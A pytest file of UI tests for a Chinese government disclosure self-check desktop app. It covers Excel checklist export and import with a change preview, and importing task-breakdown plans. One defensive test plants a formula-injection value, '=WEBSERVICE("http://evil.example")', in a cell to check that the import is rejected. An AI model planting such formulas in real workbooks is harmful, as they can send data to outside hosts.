"""Excel in the window: export, import with a preview, and importing a task breakdown."""

from __future__ import annotations

import datetime as dt
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from PySide6.QtCore import QDate, Qt
from PySide6.QtWidgets import QApplication, QWidget

from gongkai_desktop import paths
from gongkai_desktop.model import Status
from gongkai_desktop.plan.library import PlanLibrary
from gongkai_desktop.storage import Workspace
from gongkai_desktop.typed_input import DATE_FORMS
from gongkai_desktop.ui.common.operations import running_operations
from gongkai_desktop.ui.main_window import MainWindow
from gongkai_desktop.ui.measures.tree_model import COL_STATUS
from gongkai_desktop.ui.workspace.commands import EditRecordCommand, perform
from gongkai_desktop.ui.workspace.first_run import FirstRunDialog
from gongkai_desktop.ui.workspace.session import Session
from gongkai_desktop.ui.xlsx import xlsx_actions
from gongkai_desktop.units import UnitDirectory
from gongkai_desktop.xlsx import checklist_layout as L
from gongkai_desktop.xlsx import export_checklist, read_plan_workbook
from tests import ui_fixtures
from tests.prompt_mock import PromptMock
from tests.ui_fixtures import Message, save_shot, type_text
from tests.xlsx_samples import MUNICIPAL_TITLE, write_municipal_2021

pytestmark = pytest.mark.qt_log_ignore(r"does not support propagateSizeHints")

TODAY = dt.date(2020, 9, 1)


def acts(window: MainWindow) -> xlsx_actions.XlsxActions:
    return xlsx_actions.install(window)  # the window's own, installed by the fixture


@pytest.fixture
def window(session: Session, directory: UnitDirectory, qtbot,
           monkeypatch: pytest.MonkeyPatch) -> Iterator[MainWindow]:
    monkeypatch.setattr(Session, "today", staticmethod(lambda: TODAY))
    w = MainWindow(session, directory=directory)
    xlsx_actions.install(w)
    qtbot.addWidget(w)
    w.resize(1280, 800)
    w.show()
    qtbot.waitExposed(w)
    yield w
    w.close()


@pytest.fixture
def chosen_files(prompt_mock: PromptMock) -> list[tuple[str, str]]:
    """What the file dialogs were asked (title, suggested path); answers set per test."""
    asked: list[tuple[str, str]] = []
    prompt_mock.answer_with("save_file_name",
                            lambda parent, title, path, flt: asked.append((title, path)) or "")
    prompt_mock.answer_with("open_file_name",
                            lambda parent, title, folder, flt: asked.append((title, folder)) or "")
    return asked


def answer_file(prompt_mock: PromptMock, which: str, path: Path,
                asked: list[tuple[str, str]]) -> None:
    def chooser(parent: QWidget, title: str, suggested: str, flt: str) -> str:
        asked.append((title, suggested))
        assert flt == "Excel 工作簿 (*.xlsx)"
        return str(path)

    prompt_mock.answer_with(which, chooser)


def table_rows(path: Path) -> list[tuple[str, list[tuple[object, ...]]]]:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in conn.execute(
            "SELECT name FROM sqlite_master WHERE type='table'"
            " AND name NOT LIKE 'search_index%' ORDER BY name")]
        return [(t, conn.execute(f"SELECT * FROM [{t}]").fetchall()) for t in tables]
    finally:
        conn.close()


def exported_checklist(session: Session, path: Path) -> Path:
    export_checklist(session.ws.plan, session.ws.unit, session.roles, session.ws.records(), path)
    return path


def fill(path: Path, values: dict[str, dict[str, object]]) -> Path:
    wb = openpyxl.load_workbook(path)
    sheet = wb[L.MAIN_SHEET]
    columns = {str(c.value): c.column for c in sheet[L.HEADER_ROW] if c.value is not None}
    rows = {sheet.cell(r, columns[L.KEY_HEADER]).value: r
            for r in range(L.FIRST_ROW, sheet.max_row + 1)}
    for key, cells in values.items():
        for header, value in cells.items():
            sheet.cell(rows[key], columns[header]).value = value
    wb.save(path)
    wb.close()
    return path


def rows_of(model: object) -> list[tuple[str, ...]]:
    return [tuple(model.index(r, c).data() for c in range(model.columnCount()))  # type: ignore[attr-defined]
            for r in range(model.rowCount())]  # type: ignore[attr-defined]


# ---- actions in the menu --------------------------------------------------------------------


def test_actions_are_in_the_menu(window: MainWindow, qtbot, ui_app, directory) -> None:
    actions = acts(window)
    assert acts(window) is actions  # installing twice adds nothing
    texts = [a.text() for a in window.actions_menu.actions() if not a.isSeparator()]
    assert texts == ["导出Excel清单(&X)…", "导入Excel清单(&I)…", "导入任务分工（Excel）(&P)…"]
    assert all(a.isEnabled() for a in window.actions_menu.actions())
    window.set_session(None)
    assert not actions.export_action.isEnabled()
    assert not actions.import_action.isEnabled()
    assert actions.plan_import_action.isEnabled()  # a plan needs no open workspace


# ---- export ---------------------------------------------------------------------------------


def test_export_action_writes_the_file(
    window: MainWindow, qtbot, tmp_path: Path, messages: list[Message],
    chosen_files: list[tuple[str, str]], prompt_mock: PromptMock,
) -> None:
    out = tmp_path / "给同事填写"  # no suffix typed: .xlsx is added
    answer_file(prompt_mock, "save_file_name", out, chosen_files)
    acts(window).export_action.trigger()
    qtbot.waitUntil(lambda: bool(messages), timeout=10000)
    assert chosen_files[0][0] == "导出Excel清单"
    assert Path(chosen_files[0][1]).name == "万州区-自查清单-2020-09-01.xlsx"
    assert messages[0].title == "导出完成"
    assert "56 项举措" in messages[0].text
    written = tmp_path / "给同事填写.xlsx"
    wb = openpyxl.load_workbook(written)
    assert wb[L.MAIN_SHEET].max_row == L.FIRST_ROW + 56 - 1
    wb.close()


def test_cancelled_file_dialog_does_nothing(
    window: MainWindow, chosen_files: list[tuple[str, str]], messages: list[Message]
) -> None:
    actions = acts(window)
    assert actions.export_checklist() is None
    assert actions.import_checklist() is None
    assert actions.import_plan() is None
    assert len(chosen_files) == 3 and messages == []
    assert running_operations() == 0


# ---- import ---------------------------------------------------------------------------------


def test_import_preview_lists_changes_and_apply_updates_everything(
    window: MainWindow, session: Session, qtbot, tmp_path: Path, messages: list[Message],
    chosen_files: list[tuple[str, str]], prompt_mock: PromptMock,
) -> None:
    book = fill(exported_checklist(session, tmp_path / "万州区清单.xlsx"), {
        "1.1.1": {"完成状态": "已完成", "完成情况说明": "已在区政府网站公开权责清单"},
        "1.1.2": {"公开网址": "http://www.wz.gov.cn/zwgk/"},
    })
    assert window.select_measure("1.1.1")
    perform(session, EditRecordCommand(session, "1.2.1", {"status": Status.IN_PROGRESS}))
    assert session.undo_stack.count() == 1
    answer_file(prompt_mock, "open_file_name", book, chosen_files)
    acts(window).import_action.trigger()
    qtbot.waitUntil(lambda: acts(window).preview is not None, timeout=10000)
    preview = acts(window).preview
    assert preview is not None and preview.isVisible()
    assert [row[1:] for row in rows_of(preview.change_model)] == [
        ("完成状态", "未开始", "已完成"),
        ("完成情况说明", "", "已在区政府网站公开权责清单"),
        ("公开网址", "", "http://www.wz.gov.cn/zwgk/"),
    ]
    assert [row[0].split()[0] for row in rows_of(preview.change_model)] == [
        "1.1.1", "1.1.1", "1.1.2"]
    assert preview.change_model.headerData(0, Qt.Orientation.Horizontal) == "举措"
    assert "共 3 处更改，涉及 2 项举措" in preview.summary.text()
    assert preview.problem_view.isHidden() and preview.partial_button.isHidden()
    assert session.ws.record("1.1.1").status is Status.NOT_STARTED  # nothing written yet
    assert preview.apply_button.isEnabled()

    qtbot.mouseClick(preview.apply_button, Qt.MouseButton.LeftButton)
    record = session.ws.record("1.1.1")
    assert record.status is Status.DONE
    assert record.explanation == "已在区政府网站公开权责清单"
    assert session.ws.record("1.1.2").urls == ("http://www.wz.gov.cn/zwgk/",)
    assert window.model.index_for_id("1.1.1", COL_STATUS).data() == "已完成"  # the tree
    form = window.panel.form  # the panel showing 1.1.1 reloaded
    assert form.explanation_edit.toPlainText() == "已在区政府网站公开权责清单"
    assert form.current_status() is Status.DONE
    assert window.status_labels.progress_label.text().startswith("已完成 1/56")
    qtbot.waitUntil(  # the overview, told by the session like the tree and the panel
        lambda: window.overview.tiles[Status.DONE.value].number.text() == "1", timeout=5000)
    assert session.undo_stack.count() == 0  # an import is not an undo step
    assert not window.undo_action.isEnabled()
    assert messages[-1].title == "导入完成"
    assert "已导入 3 处更改，涉及 2 项举措" in messages[-1].text
    assert "撤销" in messages[-1].text
    actors = {e.actor for e in session.ws.audit_log("1.1.1")}
    assert "Excel导入：万州区清单.xlsx（张三）" in actors


def test_problems_block_apply_unless_rows_without_problems_are_chosen(
    window: MainWindow, session: Session, qtbot, tmp_path: Path, messages: list[Message],
    shots: Path,
) -> None:
    book = fill(exported_checklist(session, tmp_path / "有问题的清单.xlsx"), {
        "1.1.1": {"完成状态": "完成了", "完成情况说明": "已公开"},
        "1.1.2": {"完成状态": "推进中", "完成情况说明": "正在梳理主动公开目录"},
        "1.2.1": {"完成时间": "6月底"},
        "2.1.1": {"完成状态": "不适用"},
    })
    acts(window).read_checklist(book)
    qtbot.waitUntil(lambda: acts(window).preview is not None, timeout=10000)
    preview = acts(window).preview
    assert preview is not None
    r = L.FIRST_ROW
    assert rows_of(preview.problem_model)[:2] == [
        ("自查清单", f"第{r}行", "完成状态",
         f"第{r}行“完成状态”为“完成了”，不是可选的状态（可选：未开始、推进中、已完成、不适用）"),
        ("自查清单", f"第{r + 3}行", "完成时间",
         f"第{r + 3}行：完成时间“6月底”格式不对，可写成 {DATE_FORMS}"),
    ]
    assert len(rows_of(preview.problem_model)) == 3
    assert "表格中有 3 处问题" in preview.problem_label.text()
    assert not preview.apply_button.isEnabled()
    assert preview.partial_button.isVisible() and preview.partial_button.isEnabled()
    assert preview.partial_button.text() == "只应用无问题的行（2 处更改）"
    preview.resize(980, 620)
    save_shot(preview, shots, "xlsx-import-preview")

    qtbot.mouseClick(preview.partial_button, Qt.MouseButton.LeftButton)
    assert session.ws.record("1.1.2").status is Status.IN_PROGRESS
    assert session.ws.record("1.1.2").explanation == "正在梳理主动公开目录"
    assert session.ws.record("1.1.1").explanation == ""  # a faulty row is left out entirely
    assert session.ws.record("2.1.1").status is Status.NOT_STARTED
    assert window.model.index_for_id("1.1.2", COL_STATUS).data() == "推进中"
    assert "没有导入" in messages[-1].text


@pytest.mark.parametrize("kind", ["garbage", "formula", "other_unit"])
def test_a_hostile_workbook_shows_a_chinese_message_and_changes_nothing(
    window: MainWindow, session: Session, qtbot, tmp_path: Path, messages: list[Message],
    directory: UnitDirectory, kind: str,
) -> None:
    book = tmp_path / "来路不明.xlsx"
    if kind == "garbage":
        book.write_bytes(b"PK\x03\x04" + b"\x00" * 200)
        expected = "不是有效的Excel工作簿"
    elif kind == "formula":
        exported_checklist(session, book)
        wb = openpyxl.load_workbook(book)
        cell = wb[L.MAIN_SHEET].cell(L.FIRST_ROW, L.column_index("完成情况说明"))
        cell.value = "=WEBSERVICE(\"http://evil.example\")"
        wb.save(book)
        wb.close()
        expected = "含有公式"
    else:
        other = Workspace.create(tmp_path / "市司法局.gkws", session.ws.plan,
                                 directory.find("市司法局"))
        from gongkai_desktop.roles import roles_for_plan

        export_checklist(other.plan, other.unit, roles_for_plan(other.plan, other.unit, directory),
                         other.records(), book)
        other.close()
        expected = "不能导入到本单位"
    session.ws.update_record("1.1.1", status=Status.IN_PROGRESS, actor="张三")
    before = table_rows(session.path)
    acts(window).read_checklist(book)
    qtbot.waitUntil(lambda: bool(messages), timeout=10000)
    qtbot.waitUntil(lambda: running_operations() == 0, timeout=5000)
    assert len(messages) == 1
    assert expected in messages[0].text
    assert any("\u4e00" <= ch <= "\u9fff" for ch in messages[0].title)
    assert acts(window).preview is None
    assert table_rows(session.path) == before
    assert window.session is session


def test_a_workspace_changed_after_reading_is_not_overwritten(
    window: MainWindow, session: Session, qtbot, tmp_path: Path, messages: list[Message],
) -> None:
    book = fill(exported_checklist(session, tmp_path / "清单.xlsx"),
                {"1.1.1": {"完成状态": "已完成"}})
    acts(window).read_checklist(book)
    qtbot.waitUntil(lambda: acts(window).preview is not None, timeout=10000)
    session.ws.update_record("1.1.1", status=Status.IN_PROGRESS, actor="李四")
    before = table_rows(session.path)
    preview = acts(window).preview
    assert preview is not None
    qtbot.mouseClick(preview.apply_button, Qt.MouseButton.LeftButton)
    assert messages[-1].title == "没有导入"
    assert "已在软件中被修改" in messages[-1].text
    assert table_rows(session.path) == before


# ---- importing a task breakdown -------------------------------------------------------------


def test_plan_import_review_shows_the_tree_and_saves_to_the_library(
    window: MainWindow, qtbot, tmp_path: Path, messages: list[Message], shots: Path,
    chosen_files: list[tuple[str, str]], prompt_mock: PromptMock,
) -> None:
    source = write_municipal_2021(tmp_path / "2021年任务分工.xlsx")
    answer_file(prompt_mock, "open_file_name", source, chosen_files)
    questions: list[str] = []
    prompt_mock.answer_with("ask_question",
                            lambda parent, title, text, *_buttons: questions.append(text) or True)
    acts(window).plan_import_action.trigger()
    info = acts(window).plan_info_dialog
    assert info is not None and info.isVisible()
    assert info.title_edit.text() == "2021年任务分工"  # the file name, to correct
    info.title_edit.clear()
    type_text(info.title_edit, MUNICIPAL_TITLE)
    type_text(info.number_edit, "渝府办发〔2021〕99号")
    assert info.id_edit.text() == "cq-2021-99"  # suggested from the document number
    info.issued_edit.setDate(QDate(2021, 6, 1))
    type_text(info.issuer_edit, "重庆市人民政府办公厅")
    assert info.read_button.isEnabled()
    qtbot.mouseClick(info.read_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: acts(window).plan_review is not None, timeout=10000)

    review = acts(window).plan_review
    assert review is not None and review.isVisible()
    model = review.tree_model
    assert [model.index(r, 0).data() for r in range(model.rowCount())] == [
        "一、围绕“十四五”规划实施加强政策发布解读", "二、围绕保障和改善民生加强公开",
        "三、加强政务公开平台和制度建设"]
    area = model.index(1, 0)
    sub = model.index(0, 0, area)
    assert sub.data() == "（一）推进教育领域信息公开。"
    assert model.rowCount(sub) == 3
    assert model.parent(sub) == area
    measure = [model.index(0, c, sub).data() for c in range(4)]
    assert measure == ["2.1.1  1．公开义务教育入学政策、招生范围和办学条件。", "市教委",
                       "区教委", "2021-06-30"]
    assert "不在单位名录中：区教委" in model.index(0, 2, sub).data(Qt.ItemDataRole.ToolTipRole)
    review.tree.setCurrentIndex(model.index(0, 0, sub))
    assert review.detail.text().splitlines() == [
        "2.1.1 1．公开义务教育入学政策、招生范围和办学条件。", "牵头单位：市教委",
        "责任单位：区教委", "完成时限：2021-06-30", "不在单位名录中：区教委"]
    assert review.unknown_model.stringList() == ["区教委"]
    assert review.problem_view.isHidden()
    assert "“公开路径”列不属于任务分工的内容" in review.warning_label.text()
    assert "3 项重点任务、6 项子任务、12 项举措" in review.summary.text()
    save_shot(review, shots, "xlsx-plan-import-review")

    assert review.save_button.isEnabled()
    qtbot.mouseClick(review.save_button, Qt.MouseButton.LeftButton)
    stored = PlanLibrary().get("cq-2021-99")
    assert stored.info.title == MUNICIPAL_TITLE
    assert stored.info.issued == dt.date(2021, 6, 1)
    assert len(stored.measures()) == 12
    assert questions and MUNICIPAL_TITLE in questions[0]

    # Offered right away: a workspace on the new plan, for a unit only that plan names.
    first_run = acts(window).first_run
    assert first_run is not None and first_run.isVisible()
    assert first_run.plan.info.id == "cq-2021-99"
    type_text(first_run.search, "区教委")
    assert first_run.selected_unit() is not None
    assert first_run.selected_unit().name == "区教委"
    type_text(first_run.officer, "周敏")
    qtbot.mouseClick(first_run.create_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not window.workspace_actions.opening, timeout=15_000)  # the runner
    assert window.session is not None
    assert window.session.ws.unit.name == "区教委"
    assert window.session.ws.plan.info.id == "cq-2021-99"
    assert window.windowTitle() == "政务公开自查 — 区教委"


def test_plan_import_of_a_hostile_workbook_shows_why(
    window: MainWindow, qtbot, tmp_path: Path, messages: list[Message],
) -> None:
    from gongkai_desktop.ui.xlsx.plan_import_dialog import PlanFields

    source = tmp_path / "任务分工.xlsx"
    source.write_text("<html>这不是表格</html>", encoding="utf-8")
    acts(window).read_plan(PlanFields(source, "p-2021", "2021年任务分工"))
    qtbot.waitUntil(lambda: bool(messages), timeout=10000)
    assert "不是有效的Excel工作簿" in messages[0].text
    assert acts(window).plan_review is None
    assert [p.id for p in PlanLibrary().list_plans()] == ["cq-2020-89"]


def test_plan_import_with_problems_cannot_be_saved(
    window: MainWindow, qtbot, tmp_path: Path, directory: UnitDirectory,
) -> None:
    wb = openpyxl.Workbook()
    for row in (
        ["重点任务", "贯彻举措", "牵头单位", "责任单位", "完成时限"],
        ["一、任务\n（一）子任务。", "1．第一项。", "市司法局", "各区县政府", "2021年2月30日前"],
    ):
        wb.active.append(row)
    source = tmp_path / "有错.xlsx"
    wb.save(source)
    wb.close()
    result = read_plan_workbook(source, plan_id="bad-2021", title="2021年任务分工",
                                directory=directory)
    review = acts(window).review_plan(result)
    assert not review.problem_view.isHidden()
    assert rows_of(review.problem_model) == [
        ("Sheet", "第2行", "完成时限",
         "第2行“完成时限”中的时限有误：“2021年2月30日前”不是有效的日期")]
    assert not review.save_button.isEnabled()
    assert review.save() is False
    assert not PlanLibrary().path_for("bad-2021").exists()
    review.reject()


def test_plan_id_must_be_new_or_replaced_explicitly(
    window: MainWindow, qtbot, tmp_path: Path, directory: UnitDirectory,
) -> None:
    source = write_municipal_2021(tmp_path / "2021.xlsx")
    result = read_plan_workbook(source, plan_id="cq-2021-test", title=MUNICIPAL_TITLE,
                                directory=directory)
    PlanLibrary().add(result.plan)
    info = acts(window).ask_plan_info(source)
    type_text(info.id_edit, "cq-2020-89")
    assert not info.read_button.isEnabled()
    assert "内置任务分工" in info.problem.text()
    info.id_edit.setText("cq-2021-test")
    assert info.read_button.isEnabled()  # allowed, with a note: replacing is asked later
    assert "保存时可以选择替换" in info.problem.text()
    info.reject()
    review = acts(window).review_plan(result)
    assert review.replace_check.isVisible()
    assert not review.save_button.isEnabled()
    review.replace_check.setChecked(True)
    assert review.save_button.isEnabled()
    review.reject()


# ---- the first-run dialog with a plan library ------------------------------------------------


def test_first_run_dialog_can_pick_the_imported_plan(
    qtbot, ui_app, tmp_path: Path, directory: UnitDirectory,
) -> None:
    source = write_municipal_2021(tmp_path / "2021.xlsx")
    result = read_plan_workbook(source, plan_id="cq-2021-test", title=MUNICIPAL_TITLE,
                                document_number="渝府办发〔2021〕99号",
                                issued=dt.date(2021, 6, 1), directory=directory)
    PlanLibrary().add(result.plan)
    # 万州区 already has a workspace on the 2020 plan: that does not block the new plan.
    folder = paths.user_data_dir() / "workspaces"
    folder.mkdir(parents=True, exist_ok=True)
    ui_fixtures.make_session(folder / "万州区.gkws", "万州区", directory).close()

    dialog = FirstRunDialog(directory)
    qtbot.addWidget(dialog)
    dialog.show()
    combo = dialog.plan_combo
    assert [combo.itemData(i) for i in range(combo.count())] == ["cq-2020-89", "cq-2021-test"]
    assert combo.currentIndex() == 0  # the bundled plan first and by default
    type_text(dialog.search, "区教委")
    assert dialog.unit_model.rowCount() == 0 or dialog.selected_unit().name != "区教委"

    assert dialog.select_plan("cq-2021-test")
    assert "渝府办发〔2021〕99号" in dialog.plan_label.text()
    assert "12 项举措" in dialog.plan_label.text()
    first = dialog.unit_model.index(0)
    assert first.data() == "区教委　（本任务分工中的单位）"
    assert dialog.selected_unit().name == "区教委"
    assert "需填报 1 项举措" in dialog.chosen_label.text()

    dialog.search.clear()
    type_text(dialog.search, "万州")
    assert dialog.selected_unit().name == "万州区"
    assert "需填报 0 项举措" not in dialog.chosen_label.text()  # 各区县政府 covers it
    type_text(dialog.officer, "王小明")
    assert dialog.create_button.isEnabled()  # a new file name for the new plan
    qtbot.mouseClick(dialog.create_button, Qt.MouseButton.LeftButton)
    assert dialog.created_path == folder / "万州区-cq-2021-test.gkws"
    with Workspace.open(dialog.created_path) as ws:
        assert ws.plan.info.id == "cq-2021-test"
        assert ws.unit.name == "万州区"


def test_zz_no_top_level_widget_leaks(qtbot, ui_app) -> None:
    from PySide6.QtCore import QCoreApplication, QEvent

    QApplication.processEvents()
    QCoreApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)
    leftovers = [f"{type(w).__name__}" for w in QApplication.topLevelWidgets()]
    assert leftovers == []
